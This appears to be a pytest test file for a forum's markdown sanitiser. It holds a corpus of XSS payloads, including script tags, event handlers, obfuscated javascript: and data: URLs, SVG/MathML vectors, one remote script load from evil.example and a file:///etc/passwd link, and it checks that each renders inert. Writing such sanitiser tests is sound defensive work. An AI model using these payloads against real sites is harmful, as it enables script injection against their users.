"""XSS corpus through the real rendering pipeline (markdown-it-py → rewrites → nh3).

Every output is parsed with html.parser; the test fails if any tag, attribute or URL
scheme outside the allowlist survives. The allowlist is spelled out here on purpose (not
imported) so a careless widening of the renderer's allowlist fails this test.
"""

import re
from html.parser import HTMLParser

import pytest

from discussions.rendering import render_markdown, sanitize_html
from tests.factories import UserFactory

SAFE_TAGS = {
    "p",
    "br",
    "hr",
    "em",
    "strong",
    "s",
    "del",
    "code",
    "pre",
    "blockquote",
    "ul",
    "ol",
    "li",
    "h3",
    "h4",
    "h5",
    "h6",
    "a",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
}
SAFE_ATTRS = {"a": {"href", "title", "rel", "class"}, "ol": {"start"}}
SAFE_SCHEMES = {"http", "https", "mailto"}
INVISIBLE = re.compile(r"[\x00-\x20\x7f-\xa0\u200b-\u200f\u2028-\u202f\u2060-\u206f\ufeff]")

CORPUS = [
    # raw HTML and script tags
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "text <script>alert(1)</script> more",
    "<div><script>alert(1)</script></div>\n\nparagraph",
    "<style>body{display:none}</style>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object><embed src=x.swf>",
    "<base href=javascript:/a/><a href=/x>x</a>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    '<a href="https://ok.example" onclick="alert(1)">x</a>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<p onmouseover='alert(1)'>hover</p>",
    '<a href="x" style="background:url(javascript:alert(1))">x</a>',
    # javascript:/data:/vbscript: URLs with mixed case, entities and invisible characters
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1)  )",
    "[x](<javascript:alert(1)>)",
    "[x](java\tscript:alert(1))",
    "[x](java\u200bscript:alert(1))",
    "[x](\u0001javascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;&#x76;&#x61;script:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javas&#99;ript:alert(1))",
    "[x](%6A%61vascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](DATA:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "[x](VbScRiPt:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](jar:https://x!/)",
    "[x](\\javascript:alert(1))",
    '[x](https://ok.example "title\\" onmouseover=\\"alert(1))',
    '[x](https://ok.example" onclick="alert(1))',
    "[x](https://ok.example'onclick='alert(1))",
    # autolinks
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "<vbscript:msgbox(1)>",
    "<https://ok.example/<script>>",
    "<mailto:a@b.example?subject=<script>>",
    "javascript:alert(1) bare",
    'https://ok.example/"onmouseover="alert(1)',
    "https://ok.example/<script>alert(1)</script>",
    # reference links and images
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x][r]\n\n[r]: <JaVaScRiPt:alert(1)> 'title'",
    '[x][r]\n\n[r]: data:text/html;base64,PHNjcmlwdD4= "t"',
    "![x][r]\n\n[r]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](https://ok.example/a.png)',
    "![<img src=x onerror=alert(1)>](https://ok.example/a.png)",
    '![x](https://ok.example/a.png"onerror="alert(1))',
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "[![x](javascript:alert(1))](javascript:alert(1))",
    "[a](https://ok.example)[b](javascript:alert(1))",
    "[<script>alert(1)</script>](https://ok.example)",
    "[x](https://ok.example)<!-- [y](javascript:alert(1)) -->",
    # SVG / MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    # nested quotes, lists, code
    "> > > <script>alert(1)</script>\n> > [x](javascript:alert(1))",
    "> quote\n>> nested <img src=x onerror=alert(1)>\n>>> deeper [y](vbscript:x)",
    "- <script>x</script>\n  - [a](javascript:1)\n    1. <svg onload=alert(1)>",
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "    <script>alert(1)</script>",
    "| <script> | [x](javascript:1) |\n|---|---|\n| <img src=x onerror=1> | b |",
    "# <script>alert(1)</script>\n## [x](javascript:1)",
    # mentions next to tricks
    "@admin<script>alert(1)</script>",
    "@<script>alert(1)</script>",
    "[@member](javascript:alert(1))",
    # encoding tricks
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="javascript&#58;alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    "\x00<script>alert(1)</script>",
]


class Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))

    def handle_startendtag(self, tag, attrs):
        self.elements.append((tag, attrs))


def scheme_of(url: str) -> str | None:
    """The URL scheme a browser would see: entities are already decoded by the parser;
    controls, whitespace and invisible characters are dropped (stricter than WHATWG, which
    only strips C0/space at the ends and tab/newline inside); a scheme is letters, digits,
    "+", "-", "." before the first ":" — anything else (e.g. "java%E2%80%8Bscript:") is a
    relative path."""
    cleaned = INVISIBLE.sub("", url).lower()
    match = re.match(r"([a-z][a-z0-9+.-]*):", cleaned)
    return match.group(1) if match else None


def assert_inert(html: str) -> None:
    collector = Collector()
    collector.feed(html)
    collector.close()
    for tag, attrs in collector.elements:
        assert tag in SAFE_TAGS, f"tag <{tag}> survived in {html!r}"
        allowed = SAFE_ATTRS.get(tag, set())
        for name, value in attrs:
            assert name in allowed, f"attribute {name} on <{tag}> survived in {html!r}"
            if name == "href":
                scheme = scheme_of(value or "")
                assert scheme is None or scheme in SAFE_SCHEMES, (
                    f"scheme {scheme} survived in {html!r}"
                )
            if name == "class":
                assert value == "mention"
            if name == "rel":
                assert value == "nofollow ugc noopener"


@pytest.fixture
def members(db):
    return [UserFactory(username="admin"), UserFactory(username="member")]


@pytest.mark.parametrize("source", CORPUS)
def test_corpus_renders_inert(source, members):
    rendered = render_markdown(source)
    assert_inert(rendered.html)
    lowered = rendered.html.lower()
    assert "<script" not in lowered
    assert "<svg" not in lowered and "<math" not in lowered
    assert "<img" not in lowered and "<iframe" not in lowered


@pytest.mark.parametrize("source", CORPUS)
def test_sanitiser_alone_neutralises_raw_html(source):
    """Defence in depth: even if the parser let raw HTML through, nh3 would stop it."""
    assert_inert(sanitize_html(source))


def test_corpus_is_not_vacuous():
    """The checker itself catches executable markup (so the tests above can fail)."""
    for bad in (
        '<a href="javascript:alert(1)">x</a>',
        '<a href="JaVa&#x09;Script:x">x</a>',
        '<p onclick="x">y</p>',
        "<svg></svg>",
        '<a href="data:text/html,x">x</a>',
    ):
        with pytest.raises(AssertionError):
            assert_inert(bad)


def test_links_get_rel_and_safe_schemes_survive(db):
    html = render_markdown(
        "[a](https://a.example) <https://b.example> https://c.example/x. <mail@d.example>"
    ).html
    assert html.count('rel="nofollow ugc noopener"') == 4
    assert 'href="https://c.example/x"' in html
    assert 'href="mailto:mail@d.example"' in html


def test_markdown_features_render(db):
    html = render_markdown(
        "# Title\n\n*em* **strong** `code`\n\n> quote\n\n1. one\n2. two\n\n"
        "- [x](https://x.example)\n\n~~old~~"
    ).html
    for fragment in (
        "<h3>Title</h3>",
        "<em>em</em>",
        "<strong>strong</strong>",
        "<code>code</code>",
        "<blockquote>",
        "<ol>",
        "<li>one</li>",
        "<s>old</s>",
    ):
        assert fragment in html


def test_images_become_links(db):
    html = render_markdown("![a chart](https://ok.example/chart.png)").html
    assert "<img" not in html
    assert '<a href="https://ok.example/chart.png" rel="nofollow ugc noopener">a chart</a>' in html


def test_mentions_link_only_existing_members(members):
    rendered = render_markdown(
        "Hi @Admin and @nobody, mail me@x.example, `@member` in code, "
        "[@member](https://x.example) and @member."
    )
    assert rendered.mentioned_user_ids == {members[0].pk, members[1].pk}
    assert (
        '<a href="/discussions/members/admin/" class="mention" rel="nofollow ugc noopener">'
        "@admin</a>" in rendered.html
    )
    assert "@nobody" in rendered.html and "/members/nobody/" not in rendered.html
    assert "<code>@member</code>" in rendered.html
    assert rendered.html.count("/discussions/members/member/") == 1
